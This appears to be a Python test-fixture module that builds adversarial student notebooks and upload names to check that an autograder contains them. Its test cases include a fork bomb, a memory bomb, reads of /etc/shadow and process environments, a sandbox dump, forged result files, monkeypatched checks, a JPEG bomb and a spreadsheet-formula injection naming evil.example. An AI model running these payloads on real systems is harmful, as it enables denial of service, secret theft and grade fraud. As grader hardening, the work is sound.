"""The adversarial sample class: submissions that break naive autograders, each with the result it
must get. Built from assignment 01's release and reference answers, so it follows the notebook.

    write_class(folder, course)  ->  {student: Expected}

Every case is graded in one run together with honest students; tests/test_adversarial.py asserts
each score and that a reason is reported.
"""
from __future__ import annotations

import copy
import os
from dataclasses import dataclass
from pathlib import Path

import nbformat

from . import paths
from .sample_class import fill, solution_answers

ASSIGNMENT = "01_perceptron"
FULL = 12   # autograded points of 01


@dataclass
class Expected:
    score: float
    reason: str          # a phrase the student's notes or verdicts must contain ("" for none)
    what: str
    also: tuple = ()     # other scores that are as fair, where the outcome depends on timing

    def accepts(self, score: float) -> bool:
        return score == self.score or score in self.also


def _cells(nb) -> list:
    return nb["cells"]


def _code(source: str) -> dict:
    return nbformat.v4.new_code_cell(source)


def _insert_after(nb, grade_id: str, cell) -> None:
    cells = _cells(nb)
    i = next(k for k, c in enumerate(cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)
    cells.insert(i + 1, cell)


def _set_answer(nb, grade_id: str, source: str) -> None:
    for c in _cells(nb):
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            c["source"] = source


def _answer(nb, grade_id: str) -> str:
    return next(c["source"] for c in _cells(nb)
                if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def _tests(nb) -> list:
    return [c for c in _cells(nb) if c.get("metadata", {}).get("nbgrader", {}).get("grade")
            and not c["metadata"]["nbgrader"].get("solution") and c["cell_type"] == "code"]


def cases(solution, blank, secrets: list[str], targets: list[str]) -> dict[str, tuple[bytes, Expected]]:
    """student id -> (file content, expected result)."""
    out: dict[str, tuple[bytes, Expected]] = {}

    def add(student, nb, expected, raw: bytes | None = None):
        out[student] = (raw if raw is not None else nbformat.writes(nbformat.from_dict(nb)).encode(), expected)

    def sol():
        return copy.deepcopy(solution)

    add("honest", sol(), Expected(FULL, "", "the reference answers"))

    nb = sol()
    _insert_after(nb, "perceptron_train", _code("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"))
    add("infinite-loop", nb, Expected(2, "stuck", "a loop that ignores interrupts after the second answer"))

    nb = sol()
    _insert_after(nb, "perceptron_train", _code("import time\ntime.sleep(3600)"))
    add("slow-cell", nb, Expected(FULL, "ran past the", "a cell past the time limit, interrupted; the rest still runs"))

    nb = sol()
    # One request larger than the machine (filled, so without the cap it would really take 27 GB).
    # Growing a list block by block hits the same cap, but how long that takes depends on how fast
    # the machine faults pages in (13 s for 4 GB here once), so it would race the cell time limit.
    _set_answer(nb, "one_hot", "import numpy as np\ndistances = np.ones((60000, 60000))\n" + _answer(nb, "one_hot"))
    add("memory-bomb", nb, Expected(FULL - 3, "MemoryError", "asks for a 27 GB matrix, more than the memory cap"))

    nb = sol()
    _insert_after(nb, "xor_params", _code("import os\nfor _ in range(100000):\n    os.fork()"))
    # Every fork copies the kernel, sockets included, so what follows depends on timing: the kernel
    # answers the interrupt and every answer is graded (12), or a copy takes over and a later cell
    # is stuck (the third answer's test lost with the bomb's cell, 6, or not, 9). Either way the
    # bomb is contained and the answers graded before it keep their credit.
    add("fork-bomb", nb, Expected(FULL, "ran past the", "forks until the process cap after the third answer",
                                  also=(FULL - 6, FULL - 3)))

    nb = sol()
    _insert_after(nb, "perceptron_predict", _code("import sys\nsys.exit()"))
    add("sys-exit", nb, Expected(FULL, "", "sys.exit() (IPython only reports it)"))

    nb = sol()
    _insert_after(nb, "perceptron_train", _code("import os\nos._exit(1)"))
    add("os-exit", nb, Expected(2, "kernel died", "os._exit() kills the kernel after the second answer"))

    nb = sol()
    _set_answer(nb, "one_hot", _answer(nb, "one_hot").replace("def one_hot(", "def one_hot(:"))
    add("syntax-error", nb, Expected(FULL - 3, "SyntaxError", "a SyntaxError in one answer"))

    nb = sol()
    nb["cells"] = [c for c in _cells(nb) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "test_one_hot"]
    add("deleted-test", nb, Expected(FULL, "missing", "deleted a test cell"))

    nb = copy.deepcopy(blank)
    for c in _tests(nb):
        c["source"] = "print('all good')"
    add("edited-tests", nb, Expected(0, "edited", "blank answers, test cells replaced by prints"))

    nb = sol()
    for c in _cells(nb):
        c["metadata"].pop("nbgrader", None)
    add("no-metadata", nb, Expected(FULL, "lost its nbgrader metadata", "all nbgrader metadata stripped"))

    nb = sol()
    nb["metadata"]["colab"] = {"provenance": [], "name": "01_perceptron.ipynb"}
    for k, c in enumerate(_cells(nb)):
        c["id"] = f"Xc0l4b{k:04d}"
        c["metadata"] = {"id": c["id"], "colab": {"base_uri": "https://localhost:8080/"}}
        if c["cell_type"] == "code":
            c["outputs"], c["metadata"]["outputId"] = [], f"out-{k}"
    add("colab", nb, Expected(FULL, "lost its nbgrader metadata", "Colab re-save: new ids, colab keys, no nbgrader metadata"))

    nb = sol()
    cells = _cells(nb)
    i = next(k for k, c in enumerate(cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "one_hot")
    dup = copy.deepcopy(cells[i])
    dup["id"] = "dup-one-hot"
    cells[i]["source"] = _answer(blank, "one_hot")        # the stub, then the real answer duplicated
    cells.insert(i + 1, dup)
    cells[3], cells[4] = cells[4], cells[3]
    add("reordered-duplicated", nb, Expected(FULL, "appeared 2 times", "cells swapped and an answer cell duplicated"))

    add("empty-file", None, Expected(0, "empty", "a zero-byte file"), raw=b"")
    add("invalid-json", None, Expected(0, "invalid JSON", "a truncated download"),
        raw=nbformat.writes(nbformat.from_dict(sol())).encode()[:500])

    nb = sol()
    _insert_after(nb, "perceptron_predict", _code("for i in range(200000):\n    print('spam' * 20)"))
    add("huge-output", nb, Expected(FULL, "", "prints 16 MB"))

    nb = sol()
    _insert_after(nb, "perceptron_predict", _code(
        "import glob\nfound = []\n"
        f"for pattern in ['../../source/*/*.ipynb', '../../gradebook.db', *{secrets!r}]:\n"
        "    found += glob.glob(pattern)\n"
        "print('LEAKED' if found else 'NOTHING-FOUND', found)"))
    add("reads-solutions", nb, Expected(FULL, "", "looks for source notebooks and the gradebook"))

    nb = sol()
    _insert_after(nb, "perceptron_predict", _code(
        f"for p in ['../../gradebook.db', *{targets!r}]:\n"
        "    try:\n        open(p, 'w').write('owned')\n    except OSError as e:\n        print('blocked', p, e)"))
    add("writes-outside", nb, Expected(FULL, "", "tries to overwrite the gradebook and write outside its folder"))

    nb = copy.deepcopy(blank)
    _insert_after(nb, "perceptron_predict", _code(
        "import numpy as np, utils.checks, utils.checks.core as core\n"
        "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
        "core.judge_output = lambda *a, **k: None\ncore.run_checks = lambda *a, **k: 1\n"
        "utils.checks.check = lambda *a, **k: print('passed!')\ncheck = utils.checks.check\n"
        "import autograder.hidden as h\nh.grade = lambda *a, **k: print('passed!')"))
    add("monkeypatch", nb, Expected(0, "recorded no result", "blank answers; replaces np.allclose, the judges and check()/grade()"))

    nb = copy.deepcopy(blank)
    for c in _tests(nb):
        c["metadata"]["tags"] = ["skip-execution"]
    add("skip-execution", nb, Expected(0, "not implemented", "blank answers, test cells tagged skip-execution"))

    nb = sol()
    _insert_after(nb, "perceptron_predict", _code(
        # What TensorFlow does, without its import (seconds per kernel): a warning through its
        # Python logger, one through `warnings`, and C++ log lines written to file descriptor 2.
        "import logging, os, sys, warnings\nlogging.getLogger('tensorflow').warning('a TensorFlow warning')\n"
        "warnings.warn('a library warning')\nprint('W0000 something on stderr', file=sys.stderr)\n"
        "os.write(2, b'I0000 port.cc:153] oneDNN custom operations are on.\\n')"))
    add("stderr-warnings", nb, Expected(FULL, "", "correct answers that print TensorFlow warnings to stderr"))

    add("renamed", sol(), Expected(FULL, "", "the notebook file renamed"))

    # ---- attacks on the grader itself (the kernel is hostile) ----
    nb = sol()
    nb["cells"] = [c for c in _cells(nb) if not c.get("metadata", {}).get("nbgrader", {}).get("solution")]
    add("deleted-answers", nb, Expected(0, "was not found", "every answer cell deleted: the stubs run, "
                                                            "never the instructor's cells"))

    nb = copy.deepcopy(blank)
    _insert_after(nb, "perceptron_predict", _code(
        # What an attacker did to the old in-sandbox runner: rewrite its result files, plant a
        # symlink where the grader reads, then kill every process it can reach.
        "import json, os, signal\nforged = json.dumps([{'index': 0, 'status': 'ok', 'error': ''}])\n"
        "for d in ['.', '..', '/job', '/job/conn', os.environ.get('HOME', '.')]:\n"
        "    for name in ['cells.json', 'executed.ipynb', 'evidence.jsonl']:\n"
        "        try:\n            open(os.path.join(d, name), 'w').write(forged)\n"
        "        except OSError as e:\n            print('blocked', d, name, type(e).__name__)\n"
        "try:\n    os.symlink('/etc', '/job/conn/kernel-99')\nexcept OSError as e:\n"
        "    print('blocked symlink', type(e).__name__)\n"
        "try:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError as e:\n    print('blocked kill', type(e).__name__)"))
    add("forges-results", nb, Expected(0, "not implemented", "blank answers; rewrites the runner's files, "
                                                             "plants a symlink, kills all it can"))

    nb = copy.deepcopy(blank)
    _set_answer(nb, "perceptron_predict", (
        "import importlib\nfor mod in ['autograder.hidden.perceptron', 'autograder.solutions', 'autograder.verdict']:\n"
        "    try:\n        importlib.import_module(mod)\n        print('LEAKED', mod)\n"
        "    except ImportError as e:\n        print('blocked', mod)\n" + _answer(blank, "perceptron_predict")))
    add("imports-hidden", nb, Expected(0, "not implemented", "blank answers; imports the hidden checks, "
                                                             "the solutions and the judges"))

    nb = copy.deepcopy(blank)
    _insert_after(nb, "perceptron_predict", _code(
        # Everything the kernel can read, printed into its own feedback (for the next cohort).
        "import os\nfor top in ['/job', os.getcwd(), '/tmp']:\n    for d, _, files in os.walk(top):\n"
        "        for f in files:\n            p = os.path.join(d, f)\n            try:\n"
        "                if os.path.getsize(p) < 200_000 and '/utils/' not in p:\n"
        "                    print('==', p); print(open(p, errors='replace').read())\n"
        "            except OSError:\n                pass\nprint(dict(os.environ))"))
    add("dumps-sandbox", nb, Expected(0, "not implemented", "blank answers; prints every file the kernel "
                                                            "can read and its environment"))

    nb = sol()
    _set_answer(nb, "one_hot", (
        "from IPython.display import publish_display_data\nfrom utils.checks.evidence import MIME\n"
        "_deep = '[' * 200_000 + ']' * 200_000\n" + _answer(nb, "one_hot").replace(
            "def one_hot(", "def _one_hot(", 1) +
        "\ndef one_hot(*args, **kwargs):\n    publish_display_data({MIME: _deep})\n"
        "    publish_display_data({MIME: {'not': 'text'}})\n    return _one_hot(*args, **kwargs)"))
    add("nested-evidence", nb, Expected(FULL, "", "correct answers; one sends evidence nested past "
                                                  "Python's recursion limit and evidence that is not text"))

    nb = sol()
    _insert_after(nb, "perceptron_predict", _code(
        "import os\nfor p in ['/etc/shadow', '/proc/1/environ', '/proc/1/root']:\n    try:\n"
        "        open(p).read() if not os.path.isdir(p) else os.listdir(p)\n        print('LEAKED', p)\n"
        "    except OSError as e:\n        print('blocked', p, type(e).__name__)\n"
        # files of 192 MB (each under the file-size cap) until the scratch space is full
        "block, written, k = b'x' * (64 << 20), 0, 0\ntry:\n    for k in range(32):\n"
        "        with open(f'fill{k}.bin', 'wb') as f:\n            for _ in range(3):\n"
        "                f.write(block); written += len(block)\n"
        "except OSError as e:\n    print('disk full after', written >> 20, 'MB', type(e).__name__)\n"
        "for j in range(k + 1):\n    os.remove(f'fill{j}.bin')\nprint('uid', os.getuid())"))
    add("root-in-disguise", nb, Expected(FULL, "", "correct answers; reads root-only files and fills the disk"))

    # ---- attacks on the grader's memory and disk (found by red-teaming; each once took gigabytes) ----
    send = ("def _send(msg_type, content, buffers=None):\n    k = get_ipython().kernel\n"
            "    k.session.send(k.iopub_socket, msg_type, content, parent=k.get_parent(), buffers=buffers,\n"
            "                   ident=k._topic(msg_type))\n")
    nb = sol()
    _insert_after(nb, "test_one_hot", _code(
        "from IPython.display import display, update_display\nfor i in range(400):\n"
        "    display({'text/plain': 'x'}, raw=True, display_id='amp')\n"
        "update_display({'text/plain': 'A' * (1 << 20)}, raw=True, display_id='amp')"))
    add("display-updates", nb, Expected(FULL, "", "400 outputs sharing a display id, then a 1 MB update "
                                                  "of them all (400 MB past the output cap)"))

    nb = sol()
    _insert_after(nb, "test_one_hot", _code(
        send + "import numpy as np\n_send('display_data', {'data': {'text/plain': 'small'}, 'metadata': {}},\n"
        "      buffers=[memoryview(np.zeros(120 << 20, np.uint8))])\n"
        "_send('display_data', {'data': {'text/plain': 'B' * (120 << 20)}, 'metadata': {}})\nprint('sent')"))
    add("huge-messages", nb, Expected(FULL, "", "messages of 120 MB, past the per-message cap"))

    nb = sol()
    _insert_after(nb, "test_one_hot", _code(
        send + "import numpy as np, uuid\nbuf = memoryview(np.zeros(60 << 20, np.uint8))\nfor i in range(5):\n"
        "    _send('comm_open', {'comm_id': uuid.uuid4().hex, 'target_name': 'jupyter.widget',\n"
        "          'data': {'state': {'_model_name': 'X', '_model_module': 'x'}, 'buffer_paths': [['b']]}},\n"
        "          buffers=[buf])\nprint('sent')"))
    add("widget-state", nb, Expected(FULL, "", "widget messages whose state the notebook client would keep"))

    nb = sol()
    _set_answer(nb, "one_hot", (
        "from IPython.display import publish_display_data\nfrom utils.checks.evidence import MIME\n"
        "_pad = '{\"kind\": \"visible\", \"name\": \"one_hot\", \"pad\": [' + '{},' * 6_000_000 + '{}]}'\n"
        + _answer(nb, "one_hot").replace("def one_hot(", "def _one_hot(", 1) +
        "\ndef one_hot(*args, **kwargs):\n    publish_display_data({MIME: _pad})\n    return _one_hot(*args, **kwargs)"))
    add("evidence-bomb", nb, Expected(FULL, "", "correct answers; each also sends 18 MB of evidence that "
                                                "would take 25 times that once parsed"))

    nb = sol()
    _set_answer(nb, "one_hot", _answer(nb, "one_hot") + (
        "\nimport numpy as np\n_one_hot = one_hot\ndef one_hot(*args, **kwargs):\n"
        "    encoded, vocabulary = _one_hot(*args, **kwargs)\n    return encoded, np.zeros(10_000_000, np.int8)"))
    add("huge-wrong-output", nb, Expected(FULL - 3, "far more than", "a wrong output of 10 million elements "
                                                                      "(a judge quoting it took 8 GB)"))

    nb = sol()
    _insert_after(nb, "perceptron_train", _code(FIGURE_FLOOD))
    for _ in range(6):   # and in cell after cell, past the notebook's count
        _insert_after(nb, "perceptron_predict", _code(FIGURE_FLOOD.split("# --")[0]))
    _insert_after(nb, "perceptron_predict", _code(FIGURE_FORGERIES))   # (first of them all)
    add("figure-flood", nb, Expected(FULL, "", "floods the graded notebook with figures: dozens per cell, one "
                                               "of 3200x2400 pixels, forged PNGs, 300 inside HTML, a JPEG "
                                               "bomb (test_adversarial counts them)"))
    return out


#: images that pass the figure caps unless checked (a red team's): hundreds inside HTML output (the
#: caps count image outputs; sanitize.inert keeps no image in output HTML) and a JPEG of a few
#: hundred bytes whose header claims 65000x65000 pixels (a browser would decode ~16 GB)
FIGURE_FORGERIES = """import base64, io
from IPython.display import HTML, display
from PIL import Image
display(HTML('<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==">' * 300))
buf = io.BytesIO()
Image.new("RGB", (16, 16), "red").save(buf, "JPEG")
raw = bytearray(buf.getvalue())
at = raw.find(b"\\xff\\xc0")
raw[at + 5:at + 9] = (65000).to_bytes(2, "big") * 2
display({"image/jpeg": base64.b64encode(bytes(raw)).decode(), "text/plain": "bomb"}, raw=True)
"""

#: figures past every cap (runner.CappedClient._keep_figures); the part before "# --" fills a cell
FIGURE_FLOOD = """import base64
import matplotlib.pyplot as plt
from IPython.display import display
for i in range(12):
    plt.figure(figsize=(1, 1), dpi=20)
    plt.plot([0, i])
    plt.show()
# --
plt.figure(figsize=(8, 6), dpi=400)
plt.plot([0, 1])
plt.show()
display({"image/png": base64.b64encode(b"<script>alert(1)</script>").decode()}, raw=True)
display({"image/png": [1, 2, 3], "text/plain": "forged"}, raw=True)
"""


def escape_targets(course: Path) -> list[str]:
    """Files the `writes-outside` student tries to write (the course's own, or harmless markers)."""
    return [str(course / "gradebook.db"), str(course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
            "/tmp/dl-course-escape-marker", str(course.parent / "escape-marker")]


def write_class(folder: Path, course: Path, release_dir: Path) -> dict[str, Expected]:
    """Write the class in nbgrader's layout (one student's file renamed) and return the expectations."""
    release_nb = nbformat.read(release_dir / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    solution = nbformat.reads(nbformat.writes(fill(release_nb, solution_answers(course, ASSIGNMENT))), as_version=4)
    blank = nbformat.reads(nbformat.writes(release_nb), as_version=4)
    expected = {}
    # what a student must not reach: the instructor notebooks, the checks' source, the gradebook
    secrets = [str(course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), str(course / "gradebook.db"),
               str(paths.SOURCE / ASSIGNMENT / f"{ASSIGNMENT}.py"), str(paths.ROOT / "autograder" / "hidden" / "perceptron.py")]
    for student, (raw, exp) in cases(solution, blank, secrets, escape_targets(course)).items():
        name = "Copy of my notebook (2).ipynb" if student == "renamed" else f"{ASSIGNMENT}.ipynb"
        target = folder / student / ASSIGNMENT / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(raw)
        expected[student] = exp
    # Files that are not files: a pipe (reading it would block a worker for ever) and a link to the
    # instructor's notebook (grading it would put the solution in that student's feedback).
    for student, make in (("fifo", os.mkfifo),
                          ("symlink", lambda t: os.symlink(course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", t))):
        target = folder / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        target.parent.mkdir(parents=True, exist_ok=True)
        make(target)
        expected[student] = Expected(0, "not a regular file", f"the submission is a {student}")
    return expected


# ---- the intake's adversaries: file names, LMS names and layouts a student (or a careless export)
# controls. Each case is an input (member name -> bytes, zipped by the test), an optional roster and
# what intake must make of it; checked by tests/test_adversarial.py without grading anything.

INTAKE_ASSIGNMENT = "03_softmax"


@dataclass
class IntakeCase:
    files: dict[str, bytes]          # zip member name -> content
    what: str                        # the attack, and the wrong outcome it aimed for
    roster: list[dict] | None = None    # autograder.roster.Student fields, one dict per student
    graded: dict = None              # {file: the student it must be graded as, or None for any}
    distinct: bool = False           # the files of `graded` belong to different students
    never: tuple = ()                # (student, file): that file must never be graded as that student
    fates: dict = None               # {file: its fate (intake.GRADED, …)}
    late: dict = None                # {file graded: the LMS's late marker it must carry}
    untimed: tuple = ()              # files graded that must carry no submission time
    may_raise: tuple = ()            # intake errors that are also a right answer (failing closed)
    report_safe: bool = False        # no cell of the intake report may start like a spreadsheet formula
    seconds: float = 3.0             # intake must answer within this


def _people(*rows: tuple) -> list[dict]:
    keys = ("id", "first_name", "last_name", "email", "canvas_user_id")
    return [dict(zip(keys, r)) for r in rows]


def intake_cases(notebooks: dict[str, bytes]) -> dict[str, IntakeCase]:
    """`notebooks`: {"solution": …, "blank": …} (intake never parses them: any bytes do). Every case
    has an honest student (the solution) and a blank one beside the attacker."""
    good, blank = notebooks["solution"], notebooks["blank"]
    a = INTAKE_ASSIGNMENT
    canvas_roster = _people(("kim01", "Minji", "Kim", "kim01@u.edu", "1001"),
                            ("lee02", "Jun", "Lee", "lee02@u.edu", "1002"),
                            ("park03", "Sora", "Park", "park03@u.edu", "1003"),
                            ("mal04", "x_1002", "Smith", "mal04@u.edu", "1004"))
    moodle = {"Kim Minji_501_assignsubmission_file": good, "Lee Jun_502_assignsubmission_file": blank}
    cases = {}

    # Canvas keeps a name's trailing `_<digits>` (it only joins `_<digits>_` runs inside it): first name
    # "x_1002" makes `smithx_1002_1004_<att>_…`, read as user 1002, whose own (worse-named) file was
    # then superseded by the attacker's.
    cases["canvas-name-ends-in-an-id"] = IntakeCase(
        {"kimminji_1001_70001_03_softmax.ipynb": good, "leejun_1002_70002_Untitled.ipynb": blank,
         "smithx_1002_1004_70009_03_softmax.ipynb": blank},
        "a display name ending in another student's Canvas id, to be graded as them",
        roster=canvas_roster,
        graded={"kimminji_1001_70001_03_softmax.ipynb": "kim01", "leejun_1002_70002_Untitled.ipynb": "lee02"},
        never=(("lee02", "smithx_1002_1004_70009_03_softmax.ipynb"),),
        may_raise=("Collision",))
    # `[[:word:]]` keeps `_` in a Canvas name: `kim01_bob` did not read as Canvas at all, fell back to
    # a flat file name whose first token is another student's login, and stopped the class.
    cases["canvas-name-with-underscore"] = IntakeCase(
        {"kimminji_1001_70001_03_softmax.ipynb": good, "parksora_1003_70003_03_softmax.ipynb": blank,
         "kim01_bob_LATE_1004_70009_hw.ipynb": blank},
        "an underscore in the display name: read as another student's login, the LATE mark lost",
        roster=canvas_roster,
        graded={"kimminji_1001_70001_03_softmax.ipynb": "kim01", "parksora_1003_70003_03_softmax.ipynb": "park03",
                "kim01_bob_LATE_1004_70009_hw.ipynb": "mal04"},
        never=(("kim01", "kim01_bob_LATE_1004_70009_hw.ipynb"),),
        late={"kim01_bob_LATE_1004_70009_hw.ipynb": True, "kimminji_1001_70001_03_softmax.ipynb": False})
    # An anonymous-grading download: `anon_<anonymous id>_<attachment id>_<file>`; read as a flat
    # folder, the whole class merged into one student `anon` (and `LATE` became a student).
    anon = {"anon_Xk3j9_70001_homework.ipynb": good, "anon_Pq77a_70002_homework.ipynb": blank,
            "LATE_anon_Zz12b_70003_mywork.ipynb": blank}
    cases["canvas-anonymous-download"] = IntakeCase(
        anon, "Canvas anonymous grading: every student named `anon`",
        graded={f: None for f in anon}, distinct=True,
        late={"LATE_anon_Zz12b_70003_mywork.ipynb": True, "anon_Xk3j9_70001_homework.ipynb": False})
    # A folder named after the assignment inside one's Moodle upload made the whole zip read as
    # nbgrader's submitted/ (any one `<x>/<assignment>/<file>` did): every other student ignored, and
    # the attacker's own timestamp.txt taken as their submission time.
    mal = "Mal Ory_503_assignsubmission_file"
    files = {f"{k}/03_softmax.ipynb": v for k, v in moodle.items()}
    files |= {f"{mal}/{a}/{a}.ipynb": blank, f"{mal}/{a}/timestamp.txt": b"2000-01-01 00:00:00 UTC"}
    cases["moodle-upload-with-an-assignment-folder"] = IntakeCase(
        files, "a folder named after the assignment in a Moodle upload: the rest of the class ignored",
        graded={"Kim Minji_501_assignsubmission_file/03_softmax.ipynb": "Kim-Minji-501",
                "Lee Jun_502_assignsubmission_file/03_softmax.ipynb": "Lee-Jun-502",
                f"{mal}/{a}/{a}.ipynb": "Mal-Ory-503"},
        untimed=(f"{mal}/{a}/{a}.ipynb",))
    # A timestamp.txt among one's Moodle files is the student's file, not nbgrader's metadata.
    files = {f"{k}/03_softmax.ipynb": v for k, v in moodle.items()}
    files |= {f"{mal}/{a}.ipynb": blank, f"{mal}/timestamp.txt": b"2000-01-01 00:00:00 UTC"}
    cases["moodle-upload-with-timestamp-txt"] = IntakeCase(
        files, "a forged timestamp.txt uploaded to Moodle, read as the submission time",
        graded={f"{mal}/{a}.ipynb": "Mal-Ory-503", "Kim Minji_501_assignsubmission_file/03_softmax.ipynb": None,
                "Lee Jun_502_assignsubmission_file/03_softmax.ipynb": None},
        untimed=(f"{mal}/{a}.ipynb",), fates={f"{mal}/timestamp.txt": "not a notebook"})
    # A zip of late submitters with one student: their folder was taken for a folder wrapping the zip.
    cases["moodle-zip-of-one-student"] = IntakeCase(
        {"Kim Minji_501_assignsubmission_file/homework.ipynb": good},
        "a Moodle download (folders) of a single late submitter: the student's folder stripped",
        graded={"Kim Minji_501_assignsubmission_file/homework.ipynb": "Kim-Minji-501"})
    cases["nbgrader-zip-of-one-student"] = IntakeCase(
        {f"stu01/{a}/{a}.ipynb": good, f"stu01/{a}/timestamp.txt": b"2027-03-23 14:00:00 UTC"},
        "nbgrader's submitted/ of a single student, zipped: graded as no one",
        graded={f"stu01/{a}/{a}.ipynb": "stu01"})
    # Moodle, roster from a participants export (no participant ids): matched by the name in the
    # download, which the student sets; the victim had not submitted.
    cases["moodle-display-name-of-another"] = IntakeCase(
        {"Kim Minji_501_assignsubmission_file/03_softmax.ipynb": good,
         "Lee Jun_502_assignsubmission_file/03_softmax.ipynb": blank,
         "Ada Lovelace_503_assignsubmission_file/03_softmax.ipynb": blank},
        "a Moodle display name changed to another student's, to be graded as them",
        roster=_people(("kim01", "Minji", "Kim", "kim01@u.edu", ""), ("lee02", "Jun", "Lee", "lee02@u.edu", ""),
                       ("ada03", "Ada", "Lovelace", "ada03@u.edu", ""), ("mal04", "Mal", "Ory", "mal04@u.edu", "")),
        graded={"Kim Minji_501_assignsubmission_file/03_softmax.ipynb": "kim01",
                "Lee Jun_502_assignsubmission_file/03_softmax.ipynb": "lee02"},
        never=(("ada03", "Ada Lovelace_503_assignsubmission_file/03_softmax.ipynb"),),
        may_raise=("UnknownStudents",))
    # jupytext's look: a regex that backtracks over every line after each `---` (quadratic).
    slow = f"{mal}/notes.md"
    files = {f"{k}/03_softmax.ipynb": v for k, v in moodle.items()} | {slow: b"---\n" * 25_000}
    cases["moodle-upload-slow-to-sniff"] = IntakeCase(
        files, "a text file that takes intake minutes to tell from a jupytext notebook",
        graded={"Kim Minji_501_assignsubmission_file/03_softmax.ipynb": None,
                "Lee Jun_502_assignsubmission_file/03_softmax.ipynb": None},
        fates={slow: "not a notebook"}, seconds=2.0)
    # Spreadsheet formulas in what the instructor opens: a Moodle name starts the flat file's name.
    evil = '=HYPERLINK("evil.example?"&A1,"open")_503_assignsubmission_file_03_softmax.ipynb'
    cases["moodle-name-is-a-formula"] = IntakeCase(
        {"Kim Minji_501_assignsubmission_file_03_softmax.ipynb": good,
         "Lee Jun_502_assignsubmission_file_03_softmax.ipynb": blank, evil: blank,
         "@SUM(1+1)_504_assignsubmission_file_x.txt": b"hi", "+cmd_505_assignsubmission_file_x.txt": b"hi"},
        "a display name that is a spreadsheet formula, in the intake report",
        graded={"Kim Minji_501_assignsubmission_file_03_softmax.ipynb": None, evil: None}, report_safe=True)
    # ---- round 2 --------------------------------------------------------------------------------
    # A display name `Ory, _1004 _70008` gives `ory_1004_70008`: the name first read as user 1004 on
    # time, and the real reading (LATE, the same user) was dropped as a repeat.
    late_roster = _people(("kim01", "Minji", "Kim", "kim01@u.edu", "1001"), ("lee02", "Jun", "Lee", "lee02@u.edu", "1002"),
                          ("mal04", " _1004 _70008", "Ory", "mal04@u.edu", "1004"))
    hidden = "ory_1004_70008_LATE_1004_70009_03_softmax.ipynb"
    for label, roster, who in (("", late_roster, "mal04"), ("-no-roster", None, "ory-1004")):
        cases[f"canvas-name-hides-late{label}"] = IntakeCase(
            {"kimminji_1001_70001_03_softmax.ipynb": good, "leejun_LATE_1002_70002_03_softmax.ipynb": blank, hidden: blank},
            "a display name `ory_<own id>_<digits>`: read as user 1004 on time, the LATE reading dropped as a repeat",
            roster=roster, graded={hidden: who},
            late={hidden: True, "leejun_LATE_1002_70002_03_softmax.ipynb": True, "kimminji_1001_70001_03_softmax.ipynb": False})
    # No roster: a display name `<victim>_<victim's id>` read as the victim (same name, same id), whose
    # own file was then superseded. A name that reads as two users now names no one without a roster.
    imp = "leejun_1002_1004_70009_03_softmax.ipynb"
    cases["canvas-name-ends-in-an-id-without-roster"] = IntakeCase(
        {"kimminji_1001_70001_03_softmax.ipynb": good, "leejun_1002_70002_Untitled.ipynb": blank, imp: good},
        "no roster: display name `<victim>_<victim's id>`, graded as the victim, whose file was superseded",
        graded={"leejun_1002_70002_Untitled.ipynb": "leejun-1002", "kimminji_1001_70001_03_softmax.ipynb": "kimminji-1001"},
        never=(("leejun-1002", imp),), fates={imp: "unknown student"})
    # Uploads named `x_9_assignsubmission_file<backslash>…` (the backslash made a folder) outvoted the class: the
    # whole Canvas zip read as a Moodle download.
    flip = {f"parksora_1003_{70010 + k}_x_9_assignsubmission_file\\f{k}.txt": b"x" for k in range(3)}
    cases["canvas-names-that-read-as-moodle-folders"] = IntakeCase(
        {"kimminji_1001_70001_03_softmax.ipynb": good, "leejun_1002_70002_03_softmax.ipynb": blank} | flip,
        "uploads named `x_9_assignsubmission_file<backslash>…`: outvote the class, whole zip read as Moodle",
        roster=canvas_roster,
        graded={"kimminji_1001_70001_03_softmax.ipynb": "kim01", "leejun_1002_70002_03_softmax.ipynb": "lee02"})
    # Two folders, one of them `<x>/<assignment>/…` with a timestamp.txt: read as nbgrader's
    # submitted/, the other student ignored and the forged time taken.
    cases["nbgrader-layout-in-half-the-class"] = IntakeCase(
        {"kim01/03_softmax.ipynb": good, f"mal04/{a}/{a}.ipynb": blank, f"mal04/{a}/timestamp.txt": b"2000-01-01 00:00:00 UTC"},
        "two folders, one with `<assignment>/timestamp.txt`: read as nbgrader's submitted/, kim ignored, forged time",
        graded={"kim01/03_softmax.ipynb": "kim01", f"mal04/{a}/{a}.ipynb": "mal04"}, untimed=(f"mal04/{a}/{a}.ipynb",))
    # A display name `Anon_, xk3j9` in a named zip: read as an anonymous student, who stopped the class.
    cases["canvas-display-name-starts-anon"] = IntakeCase(
        {"kimminji_1001_70001_03_softmax.ipynb": good, "anon_xk3j9_1005_70009_03_softmax.ipynb": blank},
        "a display name `Anon_, xk3j9` in a named zip: an unknown anonymous student stops the class",
        roster=canvas_roster + _people(("mal05", "xk3j9", "Anon_", "mal05@u.edu", "1005")),
        graded={"anon_xk3j9_1005_70009_03_softmax.ipynb": "mal05", "kimminji_1001_70001_03_softmax.ipynb": "kim01"})
    # A 240-character upload name: keeping the file for regrades raised ENAMETOOLONG for the class.
    long = "parksora_1003_70003_" + "a" * 240 + ".ipynb"
    cases["file-name-too-long-to-archive"] = IntakeCase(
        {"kimminji_1001_70001_03_softmax.ipynb": good, "leejun_1002_70002_03_softmax.ipynb": blank, long: blank},
        "a 240-character upload name: archive.save raised ENAMETOOLONG for the class",
